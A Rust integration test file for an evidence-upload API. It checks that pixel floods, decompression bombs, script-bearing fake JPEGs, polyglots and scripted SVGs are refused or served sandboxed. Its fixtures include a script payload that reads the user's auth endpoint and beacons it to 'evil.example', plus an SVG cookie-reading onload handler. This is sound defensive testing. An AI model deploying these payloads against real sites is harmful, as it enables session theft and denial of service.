//! Hostile files: pixel floods and decompression bombs refused by their header before anything
//! is stored, and polyglots (two formats at once) typed by their magic bytes and never
//! rendered by the browser.

use kiemtra_shared::evidence::{DerivativeState, EvidenceMeta};
use sha2::Digest;
use uuid::Uuid;

use super::{crc32, evidence_row, put_evidence, settled};
use crate::both_backends;
use crate::helpers::{Backend, INSPECTOR, REVIEWER, error_body, jpeg_of_size, spawn_app};

both_backends!(
    a_pixel_flood_is_refused_before_anything_is_stored,
    a_png_decompression_bomb_is_refused,
    a_broken_jpeg_is_refused_as_corrupt,
    a_jpeg_carrying_html_and_a_zip_after_its_end_is_served_as_an_attachment,
    html_and_svg_are_refused_as_photo_and_as_document,
);

/// A real JPEG whose frame header then claims 65500×65500 pixels (under 1 KB).
fn pixel_flood() -> Vec<u8> {
    let mut flood = jpeg_of_size(8, 8, 1);
    let sof = flood.windows(2).position(|w| w == [0xFF, 0xC0]).unwrap();
    flood[sof + 5..sof + 7].copy_from_slice(&65500u16.to_be_bytes());
    flood[sof + 7..sof + 9].copy_from_slice(&65500u16.to_be_bytes());
    flood
}

async fn a_pixel_flood_is_refused_before_anything_is_stored(backend: Backend) {
    let app = spawn_app(backend).await;
    let inspector = app.token(INSPECTOR).await;
    let flood = pixel_flood();
    assert!(flood.len() < 1000);

    let response = app.upload_photo(&inspector, Uuid::new_v4(), &flood).await;

    assert_eq!(response.status(), 422);
    assert_eq!(error_body(response).await.code, "image_too_large");
    assert_eq!(app.stored_object_count().await, 0);
}

async fn a_png_decompression_bomb_is_refused(backend: Backend) {
    let app = spawn_app(backend).await;
    let inspector = app.token(INSPECTOR).await;
    // A real 1×1 PNG whose header then claims 100000×100000 pixels, CRC fixed.
    let mut png = Vec::new();
    image::RgbImage::new(1, 1)
        .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
        .unwrap();
    png[16..20].copy_from_slice(&100_000u32.to_be_bytes());
    png[20..24].copy_from_slice(&100_000u32.to_be_bytes());
    let crc = crc32(&png[12..29]);
    png[29..33].copy_from_slice(&crc.to_be_bytes());

    let response = app.upload_photo(&inspector, Uuid::new_v4(), &png).await;

    assert_eq!(response.status(), 422);
    assert_eq!(error_body(response).await.code, "image_too_large");
    assert_eq!(app.stored_object_count().await, 0);
}

async fn a_broken_jpeg_is_refused_as_corrupt(backend: Backend) {
    let app = spawn_app(backend).await;
    let inspector = app.token(INSPECTOR).await;
    let mut fake = vec![0xFF, 0xD8, 0xFF, 0xE0];
    fake.extend(b"<html><script>alert(1)</script></html>");

    let response = app.upload_photo(&inspector, Uuid::new_v4(), &fake).await;

    assert_eq!(response.status(), 422);
    assert_eq!(error_body(response).await.code, "image_corrupt");
    assert_eq!(app.stored_object_count().await, 0);
}

/// A ZIP archive holding one stored (uncompressed) file.
fn zip_with(name: &str, content: &[u8]) -> Vec<u8> {
    let crc = crc32(content);
    let size = content.len() as u32;
    let name_len = name.len() as u16;
    let mut zip = b"PK\x03\x04".to_vec();
    for field in [20u16, 0, 0, 0, 0] {
        zip.extend(field.to_le_bytes());
    }
    for field in [crc, size, size] {
        zip.extend(field.to_le_bytes());
    }
    zip.extend(name_len.to_le_bytes());
    zip.extend(0u16.to_le_bytes());
    zip.extend(name.as_bytes());
    zip.extend(content);
    let central_start = zip.len() as u32;
    zip.extend(b"PK\x01\x02");
    for field in [20u16, 20, 0, 0, 0, 0] {
        zip.extend(field.to_le_bytes());
    }
    for field in [crc, size, size] {
        zip.extend(field.to_le_bytes());
    }
    for field in [name_len, 0, 0, 0, 0] {
        zip.extend(field.to_le_bytes());
    }
    zip.extend(0u32.to_le_bytes());
    zip.extend(0u32.to_le_bytes());
    zip.extend(name.as_bytes());
    let central_size = zip.len() as u32 - central_start;
    zip.extend(b"PK\x05\x06");
    for field in [0u16, 0, 1, 1] {
        zip.extend(field.to_le_bytes());
    }
    zip.extend(central_size.to_le_bytes());
    zip.extend(central_start.to_le_bytes());
    zip.extend(0u16.to_le_bytes());
    zip
}

const SCRIPT_PAGE: &[u8] = b"<!doctype html><html><body><script>fetch('/api/v1/auth/me')\
    .then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))\
    </script></body></html>";

async fn a_jpeg_carrying_html_and_a_zip_after_its_end_is_served_as_an_attachment(backend: Backend) {
    let app = spawn_app(backend).await;
    let inspector = app.token(INSPECTOR).await;
    let reviewer = app.token(REVIEWER).await;
    let mut polyglot = jpeg_of_size(640, 480, 11);
    assert_eq!(
        polyglot[polyglot.len() - 2..],
        [0xFF, 0xD9],
        "ends with EOI"
    );
    polyglot.extend(SCRIPT_PAGE);
    polyglot.extend(zip_with("payload.html", SCRIPT_PAGE));
    let id = Uuid::new_v4();

    let response = put_evidence(&app, &inspector, id, "photo", &polyglot, None).await;

    assert_eq!(response.status(), 201, "data after EOI is accepted");
    let meta: EvidenceMeta = response.json().await.unwrap();
    assert_eq!(meta.content_type, "image/jpeg");
    assert_eq!(meta.sha256, hex::encode(sha2::Sha256::digest(&polyglot)));
    let download = app
        .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
        .await;
    assert_eq!(download.status(), 200);
    let headers = download.headers().clone();
    assert_eq!(headers["content-type"], "image/jpeg");
    assert_eq!(
        headers["content-length"],
        polyglot.len().to_string().as_str(),
        "streamed with its length"
    );
    assert_eq!(headers["x-content-type-options"], "nosniff");
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment"),
        "never inline: {disposition}"
    );
    let csp = headers["content-security-policy"].to_str().unwrap();
    assert!(
        csp.split(';').any(|d| d.trim() == "sandbox"),
        "sandboxed: {csp}"
    );
    assert!(csp.contains("default-src 'none'"), "{csp}");
    assert_eq!(
        download.bytes().await.unwrap().as_ref(),
        polyglot.as_slice(),
        "the original is kept byte-exact, trailing data included"
    );
    assert_eq!(
        settled(&app, &reviewer, id).await.derivatives,
        DerivativeState::Done,
        "the photo part still gets its thumbnail"
    );
}

async fn html_and_svg_are_refused_as_photo_and_as_document(backend: Backend) {
    let app = spawn_app(backend).await;
    let inspector = app.token(INSPECTOR).await;
    let mut html_with_jpeg = SCRIPT_PAGE.to_vec();
    html_with_jpeg.extend(b"<!-- ");
    html_with_jpeg.extend(jpeg_of_size(32, 32, 12));
    html_with_jpeg.extend(b" -->");
    let svg = br#"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.cookie)">
<script>alert(1)</script><rect width="10" height="10"/></svg>"#
        .to_vec();

    for (what, bytes) in [("html", &html_with_jpeg), ("svg", &svg)] {
        for kind in ["photo", "document"] {
            let id = Uuid::new_v4();

            let response = put_evidence(&app, &inspector, id, kind, bytes, None).await;

            assert_eq!(response.status(), 415, "{what} as {kind}");
            assert_eq!(
                error_body(response).await.code,
                "unsupported_media_type",
                "{what} as {kind}"
            );
            assert!(
                evidence_row(&app, id).await.is_none(),
                "{what} as {kind}: no row"
            );
        }
    }
    assert_eq!(app.stored_object_count().await, 0);
}
